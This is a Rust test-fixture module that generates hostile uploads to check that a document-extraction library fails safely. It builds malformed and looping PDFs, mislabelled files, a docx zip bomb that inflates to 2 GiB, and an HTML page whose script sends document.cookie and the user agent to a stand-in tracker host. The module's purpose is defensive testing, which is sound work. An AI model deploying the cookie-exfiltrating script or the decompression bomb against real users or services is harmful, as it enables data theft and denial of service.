//! Hostile files for robustness tests.
//!
//! Every function documents what it attacks. The documents library
//! extracts uploads in a worker bounded in time and memory; these files
//! are how its tests prove that a bad upload costs one failed document and
//! never the process, the index or the machine.

use crate::docx;
use crate::model::{Block, Format, SourceDoc};
use lopdf::{dictionary, Document, Object, Stream};
use std::io::{self, BufWriter, Cursor, Write};
use std::path::Path;
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

/// A sentence in a visible paragraph of
/// [`html_with_scripts_and_remote_images`]: extraction must keep it.
pub const HTML_VISIBLE_SENTENCE: &str =
    "Visitors must sign the fire register at reception before entering any lounge.";

/// A string that only appears inside `<script>` in
/// [`html_with_scripts_and_remote_images`]: extraction must drop it.
pub const HTML_SCRIPT_STRING: &str = "harvestVisitorFingerprint";

/// A string that only appears inside `<style>`; extraction must drop it.
pub const HTML_STYLE_STRING: &str = "hostile-style-marker";

/// The sentence in the PDF of [`pdf_named_docx`].
pub const PDF_NAMED_DOCX_SENTENCE: &str = "This file is a PDF even though its name ends in docx.";

/// How many bytes `word/document.xml` inflates to in [`docx_zip_bomb`].
pub const ZIP_BOMB_INFLATED_LEN: u64 = (docx::DOCUMENT_START.len()
    + BOMB_PARA_START.len()
    + BOMB_PARA_END.len()
    + docx::DOCUMENT_END.len()) as u64
    + BOMB_FILLER_LEN;

const BOMB_PARA_START: &str = "<w:p><w:r><w:t xml:space=\"preserve\">";
const BOMB_PARA_END: &str = "</w:t></w:r></w:p>";
/// 2 GiB of text inside one run.
const BOMB_FILLER_LEN: u64 = 2 * 1024 * 1024 * 1024;
/// 16 bytes, so 2 GiB is a whole number of repeats and every 1 MiB chunk
/// continues the pattern exactly (deflate then finds 258-byte matches
/// throughout).
const BOMB_PATTERN: &[u8; 16] = b"Care plan audit ";

/// Deterministic noise (xorshift64*), so hostile files are the same on
/// every run and a failure can be replayed.
fn noise(len: usize, mut seed: u64) -> Vec<u8> {
    let mut out = Vec::with_capacity(len + 8);
    while out.len() < len {
        seed ^= seed >> 12;
        seed ^= seed << 25;
        seed ^= seed >> 27;
        out.extend_from_slice(&seed.wrapping_mul(0x2545_F491_4F6C_DD1D).to_le_bytes());
    }
    out.truncate(len);
    out
}

fn save(mut pdf: Document) -> Vec<u8> {
    let mut out = Vec::new();
    // Only I/O errors come out of save_to, and a Vec does not produce them.
    pdf.save_to(&mut out)
        .expect("writing a PDF into memory cannot fail");
    out
}

/// Attacks: the assumption that a PDF has text. A valid two-page PDF whose
/// pages only draw vector shapes (page 1) and a greyscale image (page 2),
/// as a scan would: there is no text operator anywhere. Extraction should
/// succeed with empty pages (and the library should say "no text layer")
/// rather than fail or invent text.
pub fn pdf_without_text_layer() -> Vec<u8> {
    let mut pdf = Document::with_version("1.7");
    let pages_id = pdf.new_object_id();
    let shapes = b"0.20 0.40 0.80 rg 72 600 220 120 re f\n\
        0 0 0 RG 2 w 72 560 m 523 560 l S\n\
        0.9 0.3 0.3 rg 300 300 m 400 450 l 500 300 l h f\n"
        .to_vec();
    let pixels: Vec<u8> = (0..64u32 * 64)
        .map(|i| u8::try_from((i % 64) * 4).unwrap_or(u8::MAX))
        .collect();
    let image = pdf.add_object(Stream::new(
        dictionary! {
            "Type" => "XObject",
            "Subtype" => "Image",
            "Width" => 64,
            "Height" => 64,
            "ColorSpace" => "DeviceGray",
            "BitsPerComponent" => 8,
        },
        pixels,
    ));
    let draw_image = b"q 400 0 0 400 97 300 cm /Im1 Do Q\n".to_vec();
    let mut kids = Vec::new();
    for (content, resources) in [
        (shapes, dictionary! {}),
        (
            draw_image,
            dictionary! { "XObject" => dictionary! { "Im1" => image } },
        ),
    ] {
        let content = pdf.add_object(Stream::new(dictionary! {}, content));
        let page = pdf.add_object(dictionary! {
            "Type" => "Page",
            "Parent" => pages_id,
            "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
            "Resources" => resources,
            "Contents" => content,
        });
        kids.push(Object::Reference(page));
    }
    pdf.set_object(
        pages_id,
        dictionary! { "Type" => "Pages", "Kids" => kids, "Count" => 2 },
    );
    let catalog = pdf.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages_id });
    pdf.trailer.set("Root", catalog);
    pdf.compress();
    save(pdf)
}

/// Assembles a classic PDF from numbered object bodies, computing the
/// xref offsets, so malformed structure can be written exactly as meant
/// (lopdf would repair stream lengths on save).
fn raw_pdf(version: &str, objects: &[&[u8]]) -> Vec<u8> {
    let mut out = format!("%PDF-{version}\n%\u{e2}\u{e3}\n").into_bytes();
    let mut offsets = Vec::with_capacity(objects.len());
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        out.extend_from_slice(body);
        out.extend_from_slice(b"\nendobj\n");
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for offset in offsets {
        out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

const HELVETICA_OBJ: &[u8] =
    b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>";

/// Attacks: page-tree walkers and stream readers that trust the file. The
/// root /Pages node lists a page and an intermediate /Pages node whose
/// /Kids point back at the root (a cycle: a naive recursive walk never
/// ends or overflows the stack), /Count claims 2, and the one real page's
/// content stream declares /Length 4096 when it holds about 50 bytes and
/// the file is far shorter (a reader that slices by /Length runs off the
/// end). A robust extractor returns an error or the one page's text
/// ("Cycle page") in bounded time.
///
/// Observed with lopdf 0.42 / pdf-extract 0.12: no hang and no panic;
/// lopdf walks the cycle once, lists the real page twice, and reads the
/// over-long stream as empty, so pdf-extract returns two empty pages.
pub fn pdf_page_tree_cycle() -> Vec<u8> {
    raw_pdf(
        "1.7",
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] \
              /Resources << /Font << /F1 6 0 R >> >> /Contents 5 0 R >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
            b"<< /Length 4096 >>\nstream\nBT /F1 12 Tf 72 720 Td (Cycle page) Tj ET\nendstream",
            HELVETICA_OBJ,
        ],
    )
}

/// Attacks: stream readers only (no cycle). A one-page PDF whose content
/// stream declares /Length 4096 for about 50 bytes of data. Readers that
/// recover by scanning for `endstream` get the text "Wrong length page".
/// lopdf 0.42 does not: it silently reads the content as empty, so
/// pdf-extract 0.12 returns one empty page and no error.
pub fn pdf_wrong_stream_length() -> Vec<u8> {
    raw_pdf(
        "1.7",
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] \
              /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
            b"<< /Length 4096 >>\nstream\nBT /F1 12 Tf 72 720 Td (Wrong length page) Tj ET\nendstream",
            HELVETICA_OBJ,
        ],
    )
}

/// Attacks: format sniffing by magic bytes. Starts with a genuine
/// `%PDF-1.7` header, then 64 KiB of deterministic noise: no objects, no
/// xref, no trailer. Parsers that trust the header must fail cleanly.
pub fn pdf_garbage_after_header() -> Vec<u8> {
    let mut out = b"%PDF-1.7\n".to_vec();
    out.extend(noise(64 * 1024, 0x5EED_0FCA_FE00));
    out
}

/// Attacks: unbounded decompression. A .docx whose package parts are all
/// normal except `word/document.xml`, which deflates 2 GiB of repeated
/// text inside one `<w:t>` run ([`ZIP_BOMB_INFLATED_LEN`] bytes in all)
/// down to a couple of MB. The zip headers state the true sizes, so a
/// reader may refuse it from the central directory alone; one that
/// inflates and keeps everything needs over 2 GiB of memory.
///
/// Making it streams 1 MiB chunks through the zip writer, so memory stays
/// small; it takes a few seconds of CPU.
pub fn docx_zip_bomb() -> Vec<u8> {
    try_docx_zip_bomb().expect("writing a zip into memory cannot fail")
}

fn try_docx_zip_bomb() -> zip::result::ZipResult<Vec<u8>> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    docx::write_package_parts(&mut zip, "Quarterly care plan audit")?;
    let options = SimpleFileOptions::default()
        .compression_method(CompressionMethod::Deflated)
        .compression_level(Some(9));
    zip.start_file("word/document.xml", options)?;
    zip.write_all(docx::DOCUMENT_START.as_bytes())?;
    zip.write_all(BOMB_PARA_START.as_bytes())?;
    let chunk: Vec<u8> = BOMB_PATTERN.repeat(1024 * 1024 / BOMB_PATTERN.len());
    let mut left = BOMB_FILLER_LEN;
    while left > 0 {
        let n = usize::try_from(left.min(chunk.len() as u64)).unwrap_or(chunk.len());
        zip.write_all(&chunk[..n])?;
        left -= n as u64;
    }
    zip.write_all(BOMB_PARA_END.as_bytes())?;
    zip.write_all(docx::DOCUMENT_END.as_bytes())?;
    Ok(zip.finish()?.into_inner())
}

/// Attacks: trusting the extension. A file named .docx that is not a zip
/// at all: the header of an old Word 97 compound file (what a renamed .doc
/// looks like) followed by noise. Must be rejected as unreadable, not
/// crash the zip reader.
pub fn docx_not_a_zip() -> Vec<u8> {
    let mut out = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    out.extend(noise(8 * 1024, 0xD0C9_7D0C));
    out
}

/// Attacks: HTML extraction that keeps non-visible text or fetches
/// anything. Inline and remote `<script>`, a tracking pixel and other
/// remote images, an `<iframe>`, `<style>`, a remote stylesheet,
/// `onload=`/`onerror=` handlers and a `<noscript>` beacon, around real
/// paragraphs. Extraction must keep [`HTML_VISIBLE_SENTENCE`], drop
/// [`HTML_SCRIPT_STRING`] and [`HTML_STYLE_STRING`], and make no network
/// request (a test can run it with no network and a short timeout).
pub fn html_with_scripts_and_remote_images() -> Vec<u8> {
    format!(
        r#"<!DOCTYPE html>
<html lang="en-GB">
<head>
<meta charset="utf-8">
<title>Visiting Arrangements</title>
<link rel="stylesheet" href="https://cdn.tracker.example/styles/site.css">
<style>.{style} {{ display: none; }} body {{ font-family: sans-serif; }}</style>
<script src="https://tracker.example/collect.js"></script>
<script>
  function {script}() {{ return navigator.userAgent + document.cookie; }}
  new Image().src = "https://tracker.example/p?d=" + {script}();
</script>
</head>
<body onload="{script}()">
<img src="https://tracker.example/pixel.gif?doc=visiting" width="1" height="1" alt="">
<h1>Visiting Arrangements</h1>
<p>Visiting is open every day between 10am and 8pm, and relatives are welcome at mealtimes if the resident agrees.</p>
<p>{visible}</p>
<iframe src="https://ads.tracker.example/frame.html" width="300" height="250"></iframe>
<h2>Infection control</h2>
<p>Please do not visit if you have had diarrhoea or vomiting in the last 48 hours.</p>
<img src="https://images.tracker.example/lounge.jpg" alt="The main lounge" onerror="{script}()">
<noscript><img src="https://tracker.example/noscript.gif"></noscript>
<script>document.write("<p>" + {script}() + "</p>");</script>
</body>
</html>
"#,
        style = HTML_STYLE_STRING,
        script = HTML_SCRIPT_STRING,
        visible = HTML_VISIBLE_SENTENCE,
    )
    .into_bytes()
}

/// Attacks: trusting the extension the other way. The bytes of a normal
/// one-page PDF containing [`PDF_NAMED_DOCX_SENTENCE`], meant to be saved
/// as `something.docx`: a zip reader must fail cleanly, and a sniffing
/// extractor may read it as the PDF it is.
pub fn pdf_named_docx() -> Vec<u8> {
    SourceDoc {
        id: "pdf-named-docx".into(),
        title: "Renamed file".into(),
        format: Format::Docx,
        pages: vec![vec![
            Block::Heading {
                level: 1,
                text: "Renamed file".into(),
            },
            Block::Para(PDF_NAMED_DOCX_SENTENCE.into()),
        ]],
    }
    .bytes_as(Format::Pdf)
}

/// Attacks: code that assumes a file has content. Zero bytes.
pub fn empty() -> Vec<u8> {
    Vec::new()
}

/// Lines the large text file cycles through: plausible office prose, so
/// tokenisers and indexers do real work on it.
const LARGE_TEXT_LINES: [&str; 8] = [
    "The registered manager reviews every incident form within two working days.",
    "Staff record each medication round on the MAR chart before leaving the room.",
    "Renewal invitations are sent to customers at least 21 days before cover ends.",
    "Call recordings are kept for five years and deleted by the compliance team.",
    "Carers who work alone check in with the on-call coordinator after each visit.",
    "Complaints are acknowledged within three working days and logged on the register.",
    "A DBS certificate must be seen before any new starter works unsupervised.",
    "Claims for escape of water need photographs and the plumber's invoice.",
];

/// Attacks: memory and time limits on plain-text ingestion. Writes exactly
/// `bytes` bytes of numbered prose lines to `path` (200 MB takes a second
/// or two) through a large buffer; the last line is cut short if needed.
pub fn write_large_text_file(path: &Path, bytes: u64) -> io::Result<()> {
    let mut out = BufWriter::with_capacity(1 << 20, std::fs::File::create(path)?);
    let mut written: u64 = 0;
    let mut line = Vec::with_capacity(128);
    let mut n: u64 = 0;
    while written < bytes {
        line.clear();
        n += 1;
        let text = LARGE_TEXT_LINES[usize::try_from(n % 8).unwrap_or(0)];
        writeln!(line, "{n:09} {text}")?;
        let take = usize::try_from((bytes - written).min(line.len() as u64)).unwrap_or(line.len());
        out.write_all(&line[..take])?;
        written += take as u64;
    }
    out.flush()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn noise_is_deterministic() {
        assert_eq!(noise(100, 7), noise(100, 7));
        assert_ne!(noise(100, 7), noise(100, 8));
        assert_eq!(noise(13, 1).len(), 13);
    }

    #[test]
    fn raw_pdf_offsets_point_at_objects() {
        let bytes = pdf_page_tree_cycle();
        let text = String::from_utf8_lossy(&bytes);
        let xref = text.find("xref\n").unwrap();
        for line in text[xref..].lines().skip(3).take(6) {
            let offset: usize = line[..10].parse().unwrap();
            assert!(text[offset..].starts_with(char::is_numeric), "{line}");
            assert!(text[offset..]
                .split('\n')
                .next()
                .unwrap()
                .ends_with(" 0 obj"));
        }
    }
}
